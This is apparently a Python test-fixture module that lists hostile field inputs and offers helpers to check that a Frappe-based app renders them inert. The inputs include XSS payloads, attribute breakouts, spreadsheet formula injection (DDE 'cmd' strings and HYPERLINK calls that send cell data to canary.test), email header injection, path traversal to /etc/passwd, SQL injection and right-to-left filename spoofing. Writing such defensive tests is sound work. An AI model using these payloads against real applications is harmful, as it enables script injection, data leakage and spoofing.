"""What people and machines write into a field who mean harm, or don't know what they do; and how to tell that it is inert.

Every text has a name. Whatever runs as a script calls `CANARY`, or asks `CANARY_HOST` for something.
`texts()` are a few of each kind for `make test`, and all of them for `make nightly` (ESCALATION_HOSTILE=all).
"""

import os
import re
from html.parser import HTMLParser

CANARY = "escalation_canary"
CANARY_HOST = "canary.test"
ALL = os.environ.get("ESCALATION_HOSTILE") == "all"
_IMG = f"<img src=x onerror={CANARY}()>"
_RTL, _LTR, _ISOLATE, _POP = "\u202e", "\u202d", "\u2067", "\u2069"

MARKUP = {
	"script": f"<script>{CANARY}()</script>",
	"image": _IMG,
	# Frappe sanitises nothing that it can read as JSON.
	"json string": f'"{_IMG}"',
	"json object": f'{{"a": "<svg/onload={CANARY}()>"}}',
	"json list": f"[\"<iframe srcdoc='<script>parent.{CANARY}()</script>'>\"]",
	"entities": f"&lt;img src=x onerror={CANARY}()&gt;",
	"json entities": f'"&lt;img src=x onerror={CANARY}()&gt;"',
	"numeric entities": f"&#60;img src=x onerror={CANARY}()&#x3e;",
	"entities twice": f"&amp;lt;img src=x onerror={CANARY}()&amp;gt;",
	"leaves an attribute": f'" onmouseover="{CANARY}()" onfocus="{CANARY}()" autofocus="',
	"leaves a quoted attribute": f"' onmouseover='{CANARY}()' onfocus='{CANARY}()' autofocus='",
	"leaves everything": f'"></a></td></table></title></textarea></script>{_IMG}<!--',
	"json leaves everything": f'"\\"></textarea></script>{_IMG}"',
	"address": f"javascript:{CANARY}()",
	"loads": f'"<img src=//{CANARY_HOST}/a.png><link rel=stylesheet href=//{CANARY_HOST}/a.css>"',
	"style": f'"<style>@import url(//{CANARY_HOST}/a.css); * {{ display: none }}</style>"',
	"a form": f'"<form action=//{CANARY_HOST}><button autofocus>Log in again</button></form>"',
	"covers the page": "\"<div style='position:fixed;inset:0;z-index:99999;background:red'>gone</div>\"",
	"svg": f'"<svg><animate onbegin={CANARY}() attributeName=x dur=1s></svg>"',
	"broken": f'"<<img src=x onerror={CANARY}()//"',
	"no end": f'"<img src=x onerror={CANARY}() "',
	"template": "{{ frappe.db.sql('select 1') }} {% for x in range(9) %}x{% endfor %}",
	"placeholders": "{0} {time} %s %(x)s ${" + CANARY + "()}",
	"closes our script": f"</script><script>{CANARY}()</script>",
}
FORMULAS = {
	"formula": f'=HYPERLINK("http://{CANARY_HOST}/?"&A1,"open")',
	"plus": f'+HYPERLINK("http://{CANARY_HOST}")',
	"minus": "-2+3+cmd|' /C calc'!A0",
	"at": "@SUM(1+1)*cmd|' /C calc'!A0",
	"tab": '\t=HYPERLINK("http://x")',
	"carriage return": '\r=HYPERLINK("http://x")',
	"line": '\n=HYPERLINK("http://x")',
	"blank": '  =HYPERLINK("http://x")',
	"full-width": "＝HYPERLINK(1)",
	"full-width plus": "＋HYPERLINK(1)",
	"full-width minus": "－HYPERLINK(1)",
	"full-width at": "＠SUM(1)",
	"entity formula": "&#61;HYPERLINK(1) <b>",
	"unseen formula": "\u200b\ufeff=HYPERLINK(1)",
	"null formula": "\x00=HYPERLINK(1)",
	"second cell": 'x","=HYPERLINK(1)","',
	"formula in markup": '"<b></b>=HYPERLINK(1)"',
}
CHARACTERS = {
	"right to left override": f"invoice{_RTL}gpj.exe",
	"never closed": f"{_LTR}{_ISOLATE}{_RTL}x",
	"closes others": f"{_POP * 9}x\u202c",
	"null": "a\x00b",
	"controls": "".join(map(chr, range(1, 32))) + "\x7f\x85\x9b31m",
	"terminal": "\x1b]0;title\x07\x1b[2J",
	"header": f"x\r\nBcc: evil@{CANARY_HOST}\r\n\r\nbody",
	"line separators": "a\u2028b\u2029c",
	"half a pair": "\ud83d x",
	"halves exchanged": "\udd25\ud83d",
	"astral": "🔥𝕏👩‍🚒🏴󠁧󠁢󠁥󠁮󠁧󠁿",
	"not a character": "\ufffe\uffff\ufdd0",
	"marks": "Z" + "\u0301" * 60,
	"a byte order mark": "\ufeffx",
}
LONG = {
	"long": "x" * 100_000,
	"long markup": "<b>" * 33_334,
	"long entities": "&amp;" * 20_000,
	"long arabic": "انقطاع " * 14_286,
	"long astral": "🔥" * 50_000,
	"long numbers": "9" * 100_000,
	"long json": "[" * 100_000,
	"long blanks": " " * 50_000 + "\t" * 50_000,
}
OF_OBJECTS = {
	"prototype": "__proto__",
	"constructor": "constructor",
	"undefined": "undefined",
	"null word": "null",
	"empty list": "[]",
	"a number": "1e309",
	"path": "../../../etc/passwd",
	"sql": "' or 1=1 -- ",
	"like": "%_\\",
}
TEXTS = MARKUP | FORMULAS | CHARACTERS | LONG | OF_OBJECTS

_FEW = (
	*(
		"image",
		"json string",
		"entities twice",
		"leaves an attribute",
		"leaves everything",
		"loads",
		"no end",
	),
	*(
		"formula",
		"tab",
		"full-width",
		"right to left override",
		"null",
		"header",
		"half a pair",
		"long markup",
	),
	*("prototype", "placeholders"),
)


def texts() -> dict[str, str]:
	return TEXTS if ALL else {name: TEXTS[name] for name in _FEW}


def storable(text: str, length: int = 140) -> str:
	"""As much of it as a database takes: what Frappe itself refuses never comes as far as us."""
	return re.sub(r"[\ud800-\udfff]", "\ufffd", text[:length])


class _Markup(HTMLParser):
	def __init__(self) -> None:
		super().__init__(convert_charrefs=True)
		self.found: list[str] = []

	def handle_starttag(self, tag: str, attrs: list) -> None:
		self.found.append(tag)

	def handle_endtag(self, tag: str) -> None:
		self.found.append(f"/{tag}")

	handle_startendtag = handle_starttag

	def handle_comment(self, data: str) -> None:
		self.found.append("!--")

	handle_decl = unknown_decl = handle_pi = handle_comment


_ATTRIBUTE = re.compile(r"""["'][^"'=]*=""")


def markup_in(text: str) -> list[str]:
	"""What an HTML parser takes for markup, in the text as it is, and as it is once its entities were read."""
	from html import unescape

	found = []
	for each in (text, unescape(text)):
		parser = _Markup()
		parser.feed(each)
		parser.close()
		found += parser.found
		found += [f"attribute {text[:80]!r}"] if _ATTRIBUTE.search(each.removeprefix("'")) else []
	return found


def is_formula(text: str) -> bool:
	"""Whether a spreadsheet may compute it. A number is none, as telephones have them, too."""
	begins = text.replace("\u200b", "").lstrip()[:1]
	return bool(begins) and begins in "=+-@＝＋－＠−" and not re.fullmatch(r"\s*[+-]?[\d\s.,…•*()/-]+", text)


class _Running(_Markup):
	def handle_starttag(self, tag: str, attrs: list) -> None:
		bad = [name for name, value in attrs if name.startswith("on") or CANARY in (value or "")]
		bad += [value for _name, value in attrs if CANARY_HOST in (value or "")]
		if bad or tag in ("script", "iframe", "img", "svg", "form", "style", "link", "object", "embed"):
			self.found.append(f"{tag} {bad}")

	handle_startendtag = handle_starttag

	def handle_endtag(self, tag: str) -> None:
		pass

	handle_comment = handle_decl = unknown_decl = handle_pi = handle_endtag


def running_in(html: str) -> list[str]:
	"""What in a page of HTML could run, load or send something."""
	parser = _Running()
	parser.feed(html)
	parser.close()
	return parser.found
